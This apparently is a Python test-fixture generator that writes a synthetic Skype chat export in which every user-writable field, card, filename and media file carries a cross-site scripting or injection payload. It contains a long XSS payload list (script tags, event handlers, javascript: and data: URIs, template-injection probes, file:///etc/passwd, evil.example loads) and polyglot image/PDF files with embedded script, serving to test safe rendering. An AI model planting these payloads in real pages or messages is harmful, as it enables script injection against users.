"""An export in which everything that somebody can write is an attack on whoever shows it."""

import base64
import io
import json
import tarfile
from collections.abc import Iterator
from html import escape
from itertools import count, cycle
from pathlib import Path
from typing import Any

_SCRIPTS = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    '" onmouseover="alert({n})" x="',
    "' onfocus='alert({n})' autofocus='",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "--><script>alert({n})</script>",
    "<iframe src=javascript:alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<form action=javascript:alert({n})><input type=submit autofocus>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<body onload=alert({n})>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<img src=//evil.example/{n}.png>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<input autofocus onfocus=alert({n})>",
    "<math><mtext></p><svg><style><img src=x onerror=alert({n})></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "{{{{ 7*{n} }}}}{{% raw %}}",
    "{{{{ config }}}}<x>",
    "${{alert({n})}}",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:alert({n})>",
    "<svg/onload=alert({n})//",
    "<a\thref\t=\tjavascript:alert({n})>",
    "`-alert({n})-`",
    "\u202etxt.exe\u2066<b>{n}",
    "</script><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    "<![CDATA[<script>alert({n})</script>]]>",
    "<?xml-stylesheet href=javascript:alert({n})?>",
    "<xss style=animation-name:x onanimationstart=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<template><script>alert({n})</script></template>",
    "<portal src=//evil.example/{n}>",
    "<audio src onerror=alert({n})>",
)

_ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    " javascript:alert({n})",
    "\x01javascript:alert({n})",
    "javascript://example.org/%0aalert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox({n})",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/{n}",
    "filesystem:http://127.0.0.1/{n}",
    "about:blank#{n}",
    "view-source:javascript:alert({n})",
    "feed:javascript:alert({n})",
    "skype:x?call={n}",
    "//evil.example/{n}",
    "\\\\evil.example\\{n}",
    "https:javascript:alert({n})",
    'https://example.org/"onmouseover="alert({n})',
    "https://example.org/'onmouseover='alert({n})",
    "https://example.org/><script>alert({n})</script>",
    'mailto:a@example.org"onclick="alert({n})',
    "http://",
)

PAYLOADS = [
    *(text.format(n=n) for n, text in enumerate(_SCRIPTS)),
    *(text.format(n=n) for n, text in enumerate(_ADDRESSES, start=100)),
    *(escape(text.format(n=n)) for n, text in enumerate(_ADDRESSES, start=200)),
]

OWNER = "8:live:mara.ostrow"

POLYGLOTS = {
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>",
    "html": b"<!DOCTYPE html><script>alert(3)</script>",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(4))>>>>endobj",
    "gif and script": b"GIF89a/*\x00\x00\x00*/=alert(5)//<script>alert(6)</script>",
    "jpeg and html": b"\xff\xd8\xff\xe0<html><script>alert(7)</script>",
    "script": b"alert(8)",
    "png and html": b"\x89PNG\r\n\x1a\n<script>alert(9)</script>",
}


def messages(payload: Iterator[str]) -> Iterator[dict[str, Any]]:
    """Messages of all kinds, each field with the next payload; raw, and as the markup in which clients write it."""

    def text() -> str:
        return next(payload)

    def marked() -> str:
        return escape(next(payload))

    uri = f'uri="{marked()}" url_thumbnail="{marked()}"'
    swift = {
        "attachments": [
            {
                "contentType": "application/vnd.microsoft.card.hero",
                "content": {
                    "title": text(),
                    "subtitle": text(),
                    "text": text(),
                    "images": [{"url": text(), "alt": text()}],
                    "buttons": [{"type": "openUrl", "title": text(), "value": text()} for _ in range(5)],
                },
            }
        ]
    }
    card = base64.b64encode(json.dumps(swift).encode()).decode()
    contents = [
        ("Text", text()),
        ("RichText", text()),
        ("RichText", marked()),
        ("RichText", f'<a href="{marked()}">{marked()}</a>'),
        ("RichText", f'<at id="{marked()}">{marked()}</at> {marked()}'),
        (
            "RichText",
            f'<quote author="{marked()}" authorname="{marked()}" timestamp="1" conversation="{marked()}" '
            f'messageid="{marked()}">{marked()}</quote>{marked()}',
        ),
        ("RichText/UriObject", f'<URIObject {uri} type="Picture.1" doc_id="{marked()}"><OriginalName v="{marked()}"/>'
         f'<meta type="photo" originalName="{marked()}"/></URIObject>'),
        ("RichText/Media_GenericFile", f'<URIObject {uri} type="File.1"><OriginalName v="{marked()}"/></URIObject>'),
        ("RichText/Media_Card", f'<URIObject type="SWIFT.1"><Swift b64="{card}"/></URIObject>'),
        ("RichText/Location", f'<location latitude="1000000" longitude="1000000" address="{marked()}" '
         f'addressFriendlyName="{marked()}" timezone="{marked()}"><a href="{marked()}">{marked()}</a></location>'),
        ("RichText/Contacts", f'<contacts><c t="s" s="{marked()}" f="{marked()}"/>'
         f'<c t="p" p="{marked()}" f="{marked()}"/></contacts>'),
        ("RichText/ScheduledCallInvite", f'<URIObject subject="{marked()}"><a href="{marked()}">x</a></URIObject>'),
        ("RichText/Files", f'<files><file size="1" index="0" tid="1">{marked()}</file></files>'),
        ("RichText/Sms", f'<sms alt="{marked()}"><defaults/><targets><target status="6">{marked()}</target></targets>'
         f"<body><chunk id=\"0\">{marked()}</chunk></body></sms>"),
        ("RichText/Money", f'<money><amount>{marked()}</amount><currency>{marked()}</currency></money>'),
        ("Poll", f'<URIObject title="{marked()}" optionsEncoded="{marked()}|{marked()}"/>'),
        ("Event/Call", f'<partlist type="ended" callId="{marked()}"><part identity="{marked()}"><name>{marked()}</name>'
         "<duration>3</duration></part></partlist>"),
        ("ThreadActivity/TopicUpdate", f"<topicupdate><eventtime>1</eventtime><initiator>{marked()}</initiator>"
         f"<value>{marked()}</value></topicupdate>"),
        ("ThreadActivity/RoleUpdate", f"<roleupdate><initiator>{marked()}</initiator><target><id>{marked()}</id>"
         f"<role>{marked()}</role></target></roleupdate>"),
        ("PopCard", json.dumps([{"cards": [{"title": text(), "content": {"text": text()}}]}])),
        ("Notice", json.dumps([{"attachments": [{"content": {"title": text(), "text": text(), "buttons": [
            {"title": text(), "value": text()}]}}]}])),
        ("Translation", json.dumps({"oid": text(), "oloc": "en", "translations": [
            {"loc": text(), "translation": text()}]})),
        ("RichText/Media_CallRecording", f'<URIObject {uri}><OriginalName v="{marked()}"/><RecordingStatus '
         f'status="{marked()}" code="{marked()}"/></URIObject>'),
        (text(), text()),
    ]  # fmt: skip
    for type_, content in contents:
        yield {
            "messagetype": type_,
            "content": content,
            "properties": {
                "urlpreviews": json.dumps(
                    [{"key": text(), "value": {"url": text(), "title": text(), "description": text()}}]
                ),
                "emotions": [{"key": text(), "users": [{"mri": text(), "time": 1}]}],
            },
        }


def write(path: Path) -> Path:
    """The export; each payload is in each place once, or more often."""
    payload, ids = cycle(PAYLOADS), count(1_700_000_000_000)
    conversations: list[dict[str, Any]] = []
    rounds = 10
    for number in range(rounds):
        chat = f"19:{next(payload)}{number}@thread.skype"
        said: list[dict[str, Any]] = []
        for _ in range(4):
            next(payload)  # so that not the same payload comes to the same place in each round
            for message in messages(payload):
                id = next(ids)
                sender = f"8:{next(payload)}"
                said.append(
                    {"id": str(id), "displayName": next(payload), "version": id, "conversationid": chat, "from": sender,
                     "originalarrivaltime": "2025-01-01T10:00:00Z", "amsreferences": None, **message}
                )  # fmt: skip
        conversations.append(
            {"id": chat, "displayName": next(payload), "version": 1, "properties": None, "MessageList": said,
             "threadProperties": {"topic": next(payload), "membercount": 1, "members": json.dumps([OWNER])}}
        )  # fmt: skip
    objects = {f"0-weu-d1-{number:032x}": content for number, content in enumerate(POLYGLOTS.values(), start=1)}
    shown = [
        {"id": str(next(ids)), "displayName": "x", "version": 1, "conversationid": "8:files", "from": "8:files",
         "originalarrivaltime": "2025-01-01T10:00:00Z", "messagetype": "RichText/UriObject", "properties": None,
         "content": f'<URIObject uri="https://x/{id}" type="Picture.1" doc_id="{id}"><OriginalName '
         f'v="{escape(next(payload))}.jpg"/></URIObject>', "amsreferences": [id]}
        for id in objects
    ]  # fmt: skip
    conversations.append({"id": "8:files", "displayName": "files", "version": 1, "properties": None,
                          "threadProperties": None, "MessageList": shown})  # fmt: skip
    document = {"userId": OWNER, "exportDate": "2025-06-01T08:00", "conversations": conversations}
    with tarfile.open(path, "w") as archive:
        _add(archive, "messages.json", json.dumps(document).encode())
        for id, content in objects.items():
            _add(archive, f"media/{id}.1.jpg", content)
            side = json.dumps({"filename": next(payload), "contents": {"imgpsh": next(payload)}})
            _add(archive, f"media/{id}.json", side.encode())
    return path


def _add(archive: tarfile.TarFile, name: str, content: bytes) -> None:
    member = tarfile.TarInfo(name)
    member.size = len(content)
    archive.addfile(member, io.BytesIO(content))
